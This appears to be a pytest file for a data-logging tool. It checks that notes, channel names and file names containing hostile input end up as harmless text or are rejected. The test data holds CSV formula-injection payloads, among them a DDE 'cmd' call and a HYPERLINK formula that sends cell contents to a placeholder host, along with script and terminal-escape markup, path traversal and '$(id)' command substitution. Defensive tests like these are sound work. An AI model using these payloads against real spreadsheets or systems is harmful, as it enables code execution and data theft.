"""Words from a keyboard or a wire that mean harm: to a terminal, a spreadsheet, a folder."""

import binascii
import csv
import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wattsump_logger.bench.controller import EmulatedController, MemoryPort
from wattsump_logger.capture import loop
from wattsump_logger.capture.clock import Anchor
from wattsump_logger.errors import UsageError
from wattsump_logger.session.reader import load_session
from wattsump_logger.watch.moment import Screen
from wattsump_logger.watch.picture import render
from wattsump_logger.watch.view import line
from wattsump_logger.watch.watch import Watch
from wattsump_logger.wire.events import WireChannel
from wattsump_logger.wire.frames import FrameParser, format_hello

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "fan;=1+1",
    '","=1+1","',
    "x\n=1+1",
    "'=1+1",
)
MARKUP = "<script>alert(1)</script>[red]\x1b]0;owned\x07\x1b[2J"


def record(folder: Path, typed: list[str]) -> tuple[Path, list[Screen]]:
    """Record three seconds in which the driver types these notes; returns the session file."""
    tank = WireChannel(name="tank", source="max31855", detail="K")
    controller = EmulatedController(values, [tank])
    screens: list[Screen] = []

    class Time:
        def anchor(self) -> Anchor:
            return Anchor(
                utc_ms=1_780_000_000_000 + controller.now_ms, mono_ms=controller.now_ms * 10
            )

    pressed = [f"n{note}\n" for note in typed]
    watch = Watch(
        clock=Time(),
        read_keys=lambda: pressed.pop() if pressed else "",
        show=screens.append,
    )
    captured = loop.run(
        MemoryPort(controller, until_s=3),
        folder,
        clock=Time(),
        on_status=watch.on_status,
        on_rows=watch.on_rows,
        marks=watch.marks,
        status_s=0.0,
    )
    return captured.sessions[0], screens


def values(elapsed_s: float) -> Mapping[str, float | str | None]:
    return {"tank": -3.0}


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_harmless(cell: str) -> bool:
    """A spreadsheet takes a cell for a formula by its first character; numbers may have a sign."""
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return True
    return cell[:1] == "-" and cell[1:].replace(".", "", 1).isdecimal()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_note_that_is_a_formula_is_text_in_every_cell(tmp_path: Path, formula: str) -> None:
    path, _ = record(tmp_path, [formula])
    assert any(mark.text.startswith("note") for mark in load_session(path).marks)
    assert all(is_harmless(cell) for cell in cells(path))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_mark_that_is_a_formula_is_text_in_every_cell_and_reads_back(
    tmp_path: Path, formula: str
) -> None:
    tank = WireChannel(name="tank", source="max31855", detail="K")
    port = MemoryPort(EmulatedController(values, [tank]), until_s=3)
    waiting = [formula, "fan"]
    captured = loop.run(port, tmp_path, marks=lambda: [waiting.pop()] if waiting else [])
    assert all(is_harmless(cell) for cell in cells(captured.sessions[0]))
    marks = [mark.text for mark in load_session(captured.sessions[0]).marks]
    assert "fan" in marks
    assert " ".join(formula.replace(";", ",").split()) in marks


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(note=st.text(min_size=1, max_size=40))
def test_any_note_leaves_a_session_of_three_rows_that_loads(tmp_path: Path, note: str) -> None:
    path, _ = record(tmp_path, [note])
    assert len(load_session(path).elapsed_s) >= 3
    assert all(is_harmless(cell) for cell in cells(path))


def test_markup_and_escapes_in_a_note_stay_text_on_the_screen(tmp_path: Path) -> None:
    path, screens = record(tmp_path, [MARKUP.replace("\x1b", "").replace("\x07", "")])
    for screen in screens:
        for text in (*(one.plain for one in render(screen)), line(screen)):
            assert text.isprintable()
    assert any("<script>" in mark.text for mark in load_session(path).marks)
    json.loads(path.with_name(path.name + "-metadata.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    "name", ["../../etc/x", "=1+1", "<b>", "a b", "$(id)", "tank\x1b[2J", "", "UPPER", "a" * 17]
)
def test_a_channel_name_that_could_mean_harm_is_no_channel(name: str) -> None:
    with pytest.raises(UsageError):
        WireChannel(name=name, source="state")


@pytest.mark.parametrize("name", ["../../x", "=1+1", "<b>", "$(id)", "a/b"])
def test_a_hello_with_such_a_name_is_malformed_whatever_its_checksum(name: str) -> None:
    good = format_hello(
        seq=0,
        uptime_ms=0,
        firmware="f",
        period_ms=1000,
        channels=[WireChannel(name="tank", source="state")],
    )
    body = good.partition(b"*")[0].replace(b"tank", name.encode())
    frame = body + b"*%04X\r\n" % binascii.crc_hqx(body, 0xFFFF)
    parser = FrameParser()
    events = list(parser.feed(frame))
    assert [type(event).__name__ for event in events] == ["Malformed"]
    assert parser.hello is None


@pytest.mark.parametrize(
    "name", ["../up", "/etc/x", ".hidden", "a/b", "a b", "$(id)", "=1", "", "a\0b"]
)
def test_files_are_named_by_the_driver_or_the_clock_and_stay_in_their_folder(
    tmp_path: Path, name: str
) -> None:
    with pytest.raises(UsageError):
        loop.free_name(tmp_path, name, Anchor(utc_ms=None, mono_ms=None))
    assert list(tmp_path.iterdir()) == []
